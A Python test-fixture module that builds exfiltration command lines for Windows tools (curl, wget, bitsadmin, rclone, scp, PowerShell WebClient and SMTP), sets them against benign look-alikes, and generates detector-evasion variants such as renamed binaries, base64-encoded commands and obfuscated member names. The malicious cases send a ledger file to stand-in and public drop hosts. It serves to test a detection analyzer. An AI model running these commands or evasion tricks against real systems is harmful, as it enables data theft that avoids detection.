"""The analyzer's test command lines as structures, and the semantics-preserving variants each tool accepts.

Written from the tools' documentation, not from the analyzer's grammar files: a variant generator that read
the grammars could only agree with them.
"""
from __future__ import annotations

import base64
from dataclasses import dataclass, field

DASH_LOOKALIKES = ("\u2013", "\u2014", "\u2015")
FILE = r"C:\Users\jdoe\Documents\q3-ledger.7z"


@dataclass(frozen=True)
class Native:
    """A native tool: option groups that stay together (["-T", FILE]) and trailing positionals (the URL)."""
    tool: str                     # image stem
    groups: tuple                 # tuple of tuples of argv words
    tail: tuple = ()
    expect: str | None = None     # technique of the kept verdict, None: nothing kept
    long_equals: bool = False     # the tool accepts --opt=value
    prefixes: tuple = ()          # (long option, an unambiguous prefix the tool accepts)
    case_insensitive: bool = False
    note: str = ""
    reorder: bool = True          # option groups may come in any order (bitsadmin's and rclone's may not)

    def argv(self):
        return [w for g in self.groups for w in g] + list(self.tail)


@dataclass(frozen=True)
class Cmdlet:
    """A PowerShell command: name, its aliases, (parameter, value or None for a switch), positionals."""
    name: str
    params: tuple
    positional: tuple = ()
    aliases: tuple = ()
    prefixes: tuple = ()          # (parameter, unambiguous prefix)
    pre: str = ""                 # script before the command (variables it uses)
    expect: str | None = None
    windows_only_alias: tuple = ()   # aliases Windows PowerShell 5 has and pwsh 7 does not
    note: str = ""


@dataclass(frozen=True)
class Script:
    """A PowerShell script whose variants are only the host's (-Command spelling, encoding, image)."""
    text: str
    expect: str | None = None
    note: str = ""


# -- rendering --------------------------------------------------------------------------------------------
def quote(word: str) -> str:
    """CommandLineToArgvW quoting: backslashes before a quote doubled, quotes escaped."""
    out, backslashes = ['"'], 0
    for c in word:
        if c == "\\":
            backslashes += 1
            continue
        if c == '"':
            out.append("\\" * (backslashes * 2 + 1) + '"')
        else:
            out.append("\\" * backslashes + c)
        backslashes = 0
    out.append("\\" * (backslashes * 2) + '"')
    return "".join(out)


def plain(word: str) -> str:
    return quote(word) if (not word or any(c in word for c in ' \t"')) else word


def line(words) -> str:
    return " ".join(plain(w) for w in words)


def ps_value(value: str) -> str:
    if value.startswith(("$", "(", "@{", "[")) or value.replace(".", "").isalnum():
        return value
    return "'" + value.replace("'", "''") + "'"


def render_cmdlet(c: Cmdlet, name=None, order=None, dash="-", prefixes=False, case=None, colon=False) -> str:
    parts = [name or c.name]
    params = list(c.params) if order is None else order
    short = dict(c.prefixes)
    for param, value in params:
        written = short.get(param, param) if prefixes else param
        if case:
            written = case(written)
        if value is None:
            parts.append(f"{dash}{written}")
        elif colon:
            parts.append(f"{dash}{written}:{ps_value(value)}")
        else:
            parts.append(f"{dash}{written} {ps_value(value)}")
    parts += [ps_value(p) for p in c.positional]
    return (c.pre + " " if c.pre else "") + " ".join(parts)


# -- variants ---------------------------------------------------------------------------------------------
IMAGES = {
    "curl": r"C:\Windows\System32\curl.exe", "wget": r"C:\Tools\wget.exe",
    "bitsadmin": r"C:\Windows\System32\bitsadmin.exe", "certreq": r"C:\Windows\System32\certreq.exe",
    "robocopy": r"C:\Windows\System32\Robocopy.exe", "xcopy": r"C:\Windows\System32\xcopy.exe",
    "rclone": r"C:\Tools\rclone\rclone.exe", "winscp": r"C:\Program Files (x86)\WinSCP\WinSCP.com",
    "pscp": r"C:\Program Files\PuTTY\pscp.exe", "scp": r"C:\Windows\System32\OpenSSH\scp.exe",
    "python": r"C:\Python312\python.exe", "node": r"C:\Program Files\nodejs\node.exe",
    "ruby": r"C:\Ruby32\bin\ruby.exe", "perl": r"C:\Strawberry\perl\bin\perl.exe",
    "cmd": r"C:\Windows\System32\cmd.exe",
}
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
PWSH = r"C:\Program Files\PowerShell\7\pwsh.exe"


def _program_forms(tool):
    """(argv[0] as written, image, original file name): bare, full path, quoted path, upper case, renamed."""
    image = IMAGES.get(tool, rf"C:\Tools\{tool}.exe")
    name = image.rsplit("\\", 1)[1]
    yield f"{tool}.exe", image, None, "bare name"
    yield image, image, None, "full path"
    yield quote(image), image, None, "quoted full path"
    yield name.upper(), image.upper(), None, "upper case"
    yield r"C:\ProgramData\svcupd.exe", r"C:\ProgramData\svcupd.exe", name, "renamed (PE original file name)"


def native_variants(case: Native):
    words = case.argv()
    for program, image, ofn, how in _program_forms(case.tool):
        yield f"{how}", program + " " + line(words), image, ofn
    rest = " ".join(quote(w) for w in words)
    yield "every argument quoted", f"{case.tool}.exe {rest}", IMAGES.get(case.tool), None
    if len(case.groups) > 1 and case.reorder:
        reordered = [w for g in reversed(case.groups) for w in g] + list(case.tail)
        yield "option groups reversed", f"{case.tool}.exe {line(reordered)}", IMAGES.get(case.tool), None
    if case.tool in ("curl", "wget"):
        yield "URL first", f"{case.tool}.exe {line(list(case.tail) + [w for g in case.groups for w in g])}", \
            IMAGES.get(case.tool), None
        combined = []
        for g in case.groups:
            if len(g) == 2 and len(g[0]) == 2 and g[0][0] == "-" and g[0][1] != "-":
                combined += ["-sS" + g[0][1], g[1]]             # flags combined with the option
            else:
                combined += list(g)
        yield "short flags combined", f"{case.tool}.exe {line(combined + list(case.tail))}", IMAGES.get(case.tool), None
        attached = []
        for g in case.groups:
            if len(g) == 2 and len(g[0]) == 2 and g[0][0] == "-" and g[0][1] != "-":
                attached.append(g[0] + g[1])
            elif len(g) == 2 and g[0].startswith("--") and case.long_equals:
                attached.append(f"{g[0]}={g[1]}")
            else:
                attached += list(g)
        yield "values attached", f"{case.tool}.exe {line(attached + list(case.tail))}", IMAGES.get(case.tool), None
    for option, prefix in case.prefixes:
        abbreviated = [prefix if w == option else w for w in words]
        yield f"{option} abbreviated to {prefix}", f"{case.tool}.exe {line(abbreviated)}", IMAGES.get(case.tool), None
    if case.case_insensitive:
        yield "switches upper case", f"{case.tool}.exe {line([w.upper() if w[:1] in '/-' else w for w in words])}", \
            IMAGES.get(case.tool), None


def encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


def host_variants(script: str, windows_powershell_only=False):
    """The same script run by the host in the ways people start it."""
    yield "powershell -Command", f'powershell.exe -NoProfile -Command "{_escape(script)}"', POWERSHELL, None
    yield "full path, -c", f'{POWERSHELL} -nop -c "{_escape(script)}"', POWERSHELL, None
    yield "/Command, upper case", f'POWERSHELL.EXE /COMMAND "{_escape(script)}"', POWERSHELL.upper(), None
    yield "no -Command (implicit)", f'powershell.exe -ExecutionPolicy Bypass "{_escape(script)}"', POWERSHELL, None
    yield "en dash -Command", f'powershell.exe \u2013Command "{_escape(script)}"', POWERSHELL, None
    for flag in ("-EncodedCommand", "-enc", "-e", "-ec", "/enc", "-EnCoDeD"):
        yield f"{flag} base64", f"powershell.exe -w hidden {flag} {encoded(script)}", POWERSHELL, None
    yield "renamed host", rf'C:\Users\Public\ps.exe -c "{_escape(script)}"', r"C:\Users\Public\ps.exe", "PowerShell.EXE"
    yield "cmd /c powershell", f'cmd.exe /c powershell -c "{_escape(script)}"', IMAGES["cmd"], None
    yield "original file name '-' (unknown)", f'powershell.exe -c "{_escape(script)}"', POWERSHELL, "-"
    yield "cmd /c cmd /c powershell", f'cmd.exe /c cmd /c powershell -c "{_escape(script)}"', IMAGES["cmd"], "Cmd.Exe"
    if not windows_powershell_only:
        yield "pwsh -Command", f'"{PWSH}" -Command "{_escape(script)}"', PWSH, None
        yield "pwsh renamed (PE name pwsh.dll)", rf'C:\Users\Public\p.exe -c "{_escape(script)}"', r"C:\Users\Public\p.exe", "pwsh.dll"


def _escape(script: str) -> str:
    return script.replace('"', '\\"')


def _lower(s):
    return s.lower()


def _upper(s):
    return s.upper()


def cmdlet_variants(c: Cmdlet):
    scripts = [("as written", render_cmdlet(c))]
    scripts.append(("parameters reversed", render_cmdlet(c, order=list(reversed(c.params)))))
    if c.prefixes:
        scripts.append(("parameters abbreviated", render_cmdlet(c, prefixes=True)))
        scripts.append(("abbreviated, reversed, upper case",
                        render_cmdlet(c, order=list(reversed(c.params)), prefixes=True, case=_upper)))
    for dash in DASH_LOOKALIKES:
        scripts.append((f"dash look-alike U+{ord(dash):04X}", render_cmdlet(c, dash=dash)))
    scripts.append(("lower case", render_cmdlet(c, name=c.name.lower(), case=_lower)))
    scripts.append(("-Name:value", render_cmdlet(c, colon=True)))
    for alias in c.aliases:
        scripts.append((f"alias {alias}", render_cmdlet(c, name=alias)))
    for how, script in scripts:
        for host, cl, image, ofn in host_variants(script):
            yield f"{how}; {host}", cl, image, ofn
    for alias in c.windows_only_alias:
        for host, cl, image, ofn in host_variants(render_cmdlet(c, name=alias), windows_powershell_only=True):
            yield f"Windows PowerShell alias {alias}; {host}", cl, image, ofn


def variants(case):
    if isinstance(case, Native):
        yield from native_variants(case)
    elif isinstance(case, Cmdlet):
        yield from cmdlet_variants(case)
    else:
        yield from host_variants(case.text)


# -- the cases ----------------------------------------------------------------------------------------------
T2, T3 = "T1048.002", "T1048.003"
IWR = dict(aliases=("iwr",), windows_only_alias=("curl", "wget"))
IRM = dict(aliases=("irm",))
IWR_PREFIXES = (("Method", "Meth"), ("InFile", "InF"), ("Uri", "Ur"), ("Body", "Bod"), ("OutFile", "OutF"),
                ("UseBasicParsing", "UseB"), ("ContentType", "ContentT"))

MALICIOUS = [
    Native("curl", (("-T", FILE),), ("https://transfer.sh/q3.7z",), T2),
    Native("curl", (("--upload-file", FILE), ("-k",)), ("https://temp.sh/upload",), T2),
    Native("curl", (("-F", f"file=@{FILE}"),), ("https://file.io/",), T2),
    Native("curl", (("--form", f"doc=<{FILE}"), ("-s",)), ("https://drop.example.net/f",), T2),
    Native("curl", (("-d", f"@{FILE}"),), ("https://collect.example.org/in",), T2),
    Native("curl", (("--data-binary", f"@{FILE}"), ("-H", "Content-Type: application/octet-stream")),
           ("https://0x0.st",), T2),
    Native("curl", (("--data-urlencode", f"blob@{FILE}"),), ("https://collect.example.org/in",), T2),
    Native("curl", (("--json", f"@{FILE}"),), ("https://api.example.net/in",), T2),
    Native("curl", (("-T", FILE),), ("ftp://203.0.113.21/in/",), T3),
    Native("curl", (("-T", FILE),), ("http://203.0.113.22/up",), T3),
    Native("curl", (("-T", FILE),), ("203.0.113.23/up",), T3, note="no scheme: curl assumes http://"),
    Native("curl", (("--ssl-reqd",), ("-T", FILE)), ("ftp://203.0.113.21/in/",), T2),
    Native("wget", (("--post-file", FILE),), ("https://collect.example.org/in",), T2, long_equals=True,
           prefixes=(("--post-file", "--post-f"),)),
    Native("wget", (("--method", "PUT"), ("--body-file", FILE)), ("https://collect.example.org/in",), T2,
           long_equals=True, prefixes=(("--body-file", "--body-f"), ("--method", "--meth"))),
    Native("wget", (("--post-file", FILE),), ("http://198.51.100.9/in",), T3, long_equals=True),
    Native("bitsadmin", (("/transfer", "job1"), ("/upload",), ("/priority", "foreground")),
           ("https://bits.example.org/u/q3.7z", FILE), T2, case_insensitive=True, reorder=False),
    Native("bitsadmin", (("/transfer", "job2"), ("/upload-reply",)), ("http://bits.example.org/u", FILE), T3,
           case_insensitive=True, reorder=False),
    Native("certreq", (("-Post",), ("-config", "https://enroll.example.org/")), (FILE,), T2, case_insensitive=True),
    Native("certreq", (("/post",), ("/config", "https://enroll.example.org/")), (FILE,), T2),
    Native("robocopy", (), (r"C:\Users\jdoe\Documents", r"\\dav.example.com@SSL\DavWWWRoot\in", "*.docx", "/E"), T2),
    Native("robocopy", (), (r"C:\data", r"\\203.0.113.5@SSL@8443\drop", "/MIR"), T2),
    Native("xcopy", (), (r"C:\data\*.xlsx", r"\\dav.example.com@SSL\DavWWWRoot\in\\"), T2),
    Native("robocopy", (), (r"C:\data", r"\\203.0.113.6@8080\drop"), T3),
    Native("robocopy", (), (r"C:\data", r"\\dav.example.com\DavWWWRoot\in"), T3),
    Native("rclone", (("copy",), (r"C:\Shares\Finance",), (":sftp:/upload",), ("--sftp-host", "192.0.2.1"),
                      ("--sftp-pass", "x"), ("-P",)), (), T2, reorder=False),
    Native("rclone", (("copy",), (r"C:\Shares\Legal",), ("mega_remote:exfil",), ("--transfers", "8")), (), T2, reorder=False),
    Native("rclone", (("copy",), (r"C:\Shares",), (":ftp,host=203.0.113.9:in",)), (), T3, reorder=False),
    Native("winscp", (("/console",), ("/command", "open sftp://drop:pw@drop.example.net/ -hostkey=*",
                                      r"put C:\x\source.zip /in/", "exit")), (), T2, case_insensitive=False),
    Native("winscp", (("/command", "open ftp://drop.example.net/ -explicit", r"put C:\x\a.zip /in/", "exit"),),
           (), T2),
    Native("winscp", (("/command", "open ftp://drop.example.net/", r"put C:\x\a.zip /in/", "exit"),), (), T3),
    Native("pscp", (("-P", "22"), ("-pw", "Summer2026!")), (FILE, "exfil@198.51.100.1:/home/exfil/"), T2),
    Native("scp", (("-P", "2222"), ("-i", r"C:\k\id")), (FILE, "adversary@adversary-host:/tmp/"), T2),
    Native("python", (("-c", f"import requests; requests.post('https://x.example/u', files={{'f': open(r'{FILE}','rb')}})"),), (), T2),
    Native("python", (("-I",), ("-c", "import ftplib; f=ftplib.FTP('203.0.113.9'); f.storbinary('STOR a', open('a','rb'))")), (), T3,
           note="no URL literal: ftplib.FTP is plain FTP"),
    Native("node", (("-e", "const fs=require('fs');fetch('https://x.example/n',{method:'POST',body:fs.readFileSync('a.csv')})"),), (), T2),
    Native("ruby", (("-e", "require 'net/http'; Net::HTTP.post(URI('https://x.example/r'), File.read('a.csv'))"),), (), T2),
    Native("perl", (("-e", "use LWP::UserAgent; LWP::UserAgent->new->post('http://x.example/p', Content_Type=>'form-data', Content=>[f=>['a.csv']])"),), (), T3),
]
MALICIOUS_PS = [
    Cmdlet("Invoke-RestMethod", (("Uri", "https://api.example.net/v1/upload"), ("Method", "Post"), ("InFile", FILE)),
           prefixes=IWR_PREFIXES, expect=T2, **IRM),
    Cmdlet("Invoke-WebRequest", (("InFile", FILE), ("Method", "Put"), ("UseBasicParsing", None)),
           positional=("https://api.example.net/in",), prefixes=IWR_PREFIXES, expect=T2, **IWR),
    Cmdlet("Invoke-WebRequest", (("Uri", "http://198.51.100.9/up"), ("Method", "Post"), ("InFile", FILE)),
           prefixes=IWR_PREFIXES, expect=T3, **IWR),
    Cmdlet("Invoke-RestMethod", (("Uri", "https://pastebin.com/api/api_post.php"), ("Method", "Post"), ("Body", "$p")),
           pre=f"$c = Get-Content {FILE} -Raw; $p = @{{api_paste_code=$c}};", prefixes=IWR_PREFIXES, expect=T2, **IRM),
    Cmdlet("Invoke-RestMethod", (("Uri", "https://api.example.net/b"), ("Method", "Post"),
                                 ("Body", f"([IO.File]::ReadAllBytes('{FILE}'))")),
           prefixes=IWR_PREFIXES, expect=T2, **IRM),
    Cmdlet("Invoke-RestMethod", (("Uri", "https://api.example.net/f"), ("Method", "Post"),
                                 ("Body", f"(Get-Content {FILE})"), ("ContentType", "text/plain")),
           prefixes=IWR_PREFIXES, expect=T2, **IRM),
    Cmdlet("Start-BitsTransfer", (("Source", FILE), ("Destination", "https://bits.example.org/u/q3.7z"),
                                  ("TransferType", "Upload")),
           prefixes=(("Source", "Sou"), ("Destination", "Dest"), ("TransferType", "TransferT")), aliases=("sbt",),
           expect=T2),
    Cmdlet("Start-BitsTransfer", (("TransferType", "Upload"),), positional=(FILE, "http://bits.example.org/u"),
           prefixes=(("TransferType", "TransferT"),), expect=T3),
    Cmdlet("Send-MailMessage", (("From", "a@example-corp.com"), ("To", "box@mail-relay-x.net"), ("Subject", "r"),
                                ("Attachments", FILE), ("SmtpServer", "smtp.mail-relay-x.net"), ("Port", "587"),
                                ("UseSsl", None)),
           prefixes=(("SmtpServer", "Smtp"), ("UseSsl", "UseS"), ("Attachments", "Att")), expect=T2),
    Cmdlet("Copy-Item", (("Path", FILE), ("Destination", r"\\dav.example.com@SSL\DavWWWRoot\in")),
           aliases=("copy", "cpi"), prefixes=(("Destination", "Dest"),), expect=T2),
]
MALICIOUS_SCRIPTS = [
    Script(f"$wc = New-Object System.Net.WebClient; $wc.UploadFile('https://files.example.net/u', '{FILE}')", T2),
    Script(f"(New-Object Net.WebClient).UploadData('https://127.0.0.1:4443/upload', 'POST', [IO.File]::ReadAllBytes('{FILE}'))", T2,
           note="loopback: a local listener forwards elsewhere; not internal by default"),
    Script(f"$u = 'http://203.0.113.7/u'; $w = New-Object Net.WebClient; $w.UploadFile($u, '{FILE}')", T3),
    Script(f"$w = New-Object Net.WebClient; $w.('Upl'+'oadFile')('https://files.example.net/c', '{FILE}')", T2),
    Script(f"$w = New-Object Net.WebClient; $m = 'Upload' + 'String'; $w.$m('https://files.example.net/s', (gc {FILE}))", T2,
           note="member name in a variable built by concatenation"),
    Script("Add-Type -Path 'C:\\WinSCP\\WinSCPnet.dll'; $o = New-Object WinSCP.SessionOptions -Property @{ "
           "Protocol = [WinSCP.Protocol]::Sftp; HostName = 'ssh.far.example.net'; UserName = 'u' }; "
           f"$s = New-Object WinSCP.Session; $s.Open($o); $s.PutFiles('{FILE}', '/in/')", T2),
    Script("Add-Type -Path 'C:\\WinSCP\\WinSCPnet.dll'; $o = New-Object WinSCP.SessionOptions; "
           "$o.Protocol = [WinSCP.Protocol]::Ftp; $o.HostName = 'ftp.far.example.net'; "
           f"$s = New-Object WinSCP.Session; $s.Open($o); $s.PutFiles('{FILE}', '/in/')", T3),
    Script("$smtp = New-Object System.Net.Mail.SmtpClient('smtp.attacker.example.com', 587); $smtp.EnableSsl = $true; "
           f"$smtp.Send('a@example-corp.com', 'drop@attacker.example.com', 'x', (gc {FILE} -Raw))", T2),
    Script(f"curl.exe -T {FILE} https://transfer.sh/q3.7z", T2, note="native curl inside PowerShell"),
]

BENIGN = [
    Native("curl", (("-s",), ("-f",), ("-m", "10")), ("https://status.example.com/health",)),
    Native("curl", (("-L",), ("-O",)), ("https://download.example.org/tool.zip",)),
    Native("curl", (("-o", FILE),), ("https://download.example.org/q3.7z",)),
    Native("curl", (("-F", "status=ok"),), ("https://status.example.com/ping",)),
    Native("curl", (("--form-string", f"f=@{FILE}"),), ("https://api.example.net/in",)),
    Native("curl", (("-d", "user=jdoe"),), ("https://login.example.net/",)),
    Native("curl", (("--data-raw", f"@{FILE}"),), ("https://api.example.net/in",)),
    Native("curl", (("--data-urlencode", "q=a@b"),), ("https://search.example.net/",)),
    Native("curl", (("-T", FILE),), ("https://10.10.50.40/reports/",), note="internal server"),
    Native("curl", (("-T", FILE),), ("https://192.168.50.12/in",), note="internal server"),
    Native("curl", (("-H", "-T"),), ("https://api.example.net/",), note="-T is the header's value"),
    Native("wget", (("-T", "10"), ("-O", FILE)), ("https://download.example.org/q3.7z",), long_equals=True),
    Native("wget", (("--post-data", "a=1"),), ("https://api.example.net/",), long_equals=True),
    Native("wget", (("--body-file", FILE),), ("https://api.example.net/",), long_equals=True,
           note="--body-file without --method: wget refuses"),
    Native("bitsadmin", (("/transfer", "job"), ("/download",), ("/priority", "normal")),
           ("https://download.example.org/x.zip", FILE), case_insensitive=True, reorder=False),
    Native("certreq", (("-submit",), ("-config", "CA01\\Corp-CA")), (FILE,), case_insensitive=True),
    Native("robocopy", (), (r"\\dav.example.com@SSL\DavWWWRoot\forms", r"C:\forms"), note="download"),
    Native("robocopy", (), (r"C:\data", r"\\fs02\share\data", "/MIR"), note="SMB share"),
    Native("robocopy", (), (r"C:\data", r"\\10.10.50.80@SSL\DavWWWRoot\teams"), note="internal WebDAV"),
    Native("rclone", (("copy",), ("mega_remote:exfil",), (r"C:\restore",)), (), note="download", reorder=False),
    Native("rclone", (("lsd",), ("mega_remote:",)), ()),
    Native("rclone", (("copy",), (r"C:\Shares",), (":sftp,host=10.10.50.20:in",)), (), note="internal", reorder=False),
    Native("winscp", (("/command", "open sftp://u@10.10.50.20/", r"put C:\x\a.zip /in/", "exit"),), (), note="internal"),
    Native("winscp", (("/command", "open sftp://u@drop.example.net/", r"get /out/a.zip C:\x\\", "exit"),), ()),
    Native("winscp", (("/command", "open sftp://u@drop.example.net/", r"synchronize local C:\x /out", "exit"),), ()),
    Native("pscp", (("-P", "22"),), ("u@198.51.100.1:/home/u/a.zip", r"C:\x\\"), note="download"),
    Native("scp", (), (FILE, "u@10.10.50.20:/tmp/"), note="internal"),
    Native("python", (("-c", "import requests; print(requests.get('https://pypi.org/').status_code)"),), ()),
    Native("node", (("-e", "fetch('https://registry.npmjs.org/').then(r=>r.status)"),), ()),
]
BENIGN_PS = [
    Cmdlet("Invoke-WebRequest", (("Uri", "https://download.example.org/x.msi"), ("OutFile", FILE)),
           prefixes=IWR_PREFIXES, **IWR),
    Cmdlet("Invoke-RestMethod", (("Uri", "https://api.example.net/v1/status"), ("Method", "Get")),
           prefixes=IWR_PREFIXES, **IRM),
    Cmdlet("Invoke-RestMethod", (("Uri", "https://api.example.net/in"), ("Method", "Post"), ("Body", '{"ok":true}'),
                                 ("ContentType", "application/json")), prefixes=IWR_PREFIXES, **IRM),
    Cmdlet("Invoke-WebRequest", (("Uri", "https://api.example.net/in"), ("InFile", FILE)), prefixes=IWR_PREFIXES,
           note="-InFile with the default GET: Windows PowerShell refuses to send a body", **IWR),
    Cmdlet("Invoke-RestMethod", (("Uri", "https://10.10.50.40/in"), ("Method", "Post"), ("InFile", FILE)),
           prefixes=IWR_PREFIXES, note="internal server", **IRM),
    Cmdlet("Start-BitsTransfer", (("Source", "https://download.example.org/kb.msu"), ("Destination", FILE)),
           prefixes=(("Source", "Sou"), ("Destination", "Dest"))),
    Cmdlet("Send-MailMessage", (("To", "team@example-corp.com"), ("Subject", "r"), ("SmtpServer", "10.10.50.25"),
                                ("UseSsl", None)), prefixes=(("SmtpServer", "Smtp"),), note="internal relay"),
    Cmdlet("Copy-Item", (("Path", r"\\dav.example.com@SSL\DavWWWRoot\in\a.docx"), ("Destination", FILE)),
           aliases=("copy", "cpi"), note="download"),
]
BENIGN_SCRIPTS = [
    Script("$wc = New-Object System.Net.WebClient; $wc.DownloadFile('https://download.example.org/a.zip', 'C:\\x\\a.zip')"),
    Script(f"$wc = New-Object Net.WebClient; $wc.UploadFile('https://10.10.50.40/u', '{FILE}')"),
    Script("$smtp = New-Object System.Net.Mail.SmtpClient('10.10.50.25', 587); $smtp.EnableSsl = $true; "
           "$smtp.Send('a@example-corp.com', 'b@example-corp.com', 'x', 'y')"),
    Script("Add-Type -Path 'C:\\WinSCP\\WinSCPnet.dll'; $o = New-Object WinSCP.SessionOptions -Property @{ "
           "Protocol = [WinSCP.Protocol]::Sftp; HostName = 'ssh.far.example.net' }; "
           "$s = New-Object WinSCP.Session; $s.Open($o); $s.GetFiles('/out/*', 'C:\\x\\')"),
    Script("curl -Uri https://download.example.org/a.zip -OutFile C:\\x\\a.zip"),
]
